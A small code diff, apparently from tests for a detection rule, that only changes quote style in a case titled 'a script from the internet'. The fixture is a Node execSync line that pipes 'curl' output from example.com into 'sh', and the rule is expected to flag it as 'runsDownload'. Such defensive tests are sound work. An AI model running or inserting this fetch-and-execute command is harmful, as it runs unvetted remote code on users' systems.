@@ -39,7 +39,7 @@ export default defineRule({
       },
       {
         title: 'a script from the internet',
-        resources: fn("require('child_process').execSync('curl -s https://example.com/setup.sh | sh');"),
+        resources: fn('require("child_process").execSync("curl -s https://example.com/setup.sh | sh");'),
         reports: ['runsDownload'],
       },
     ],
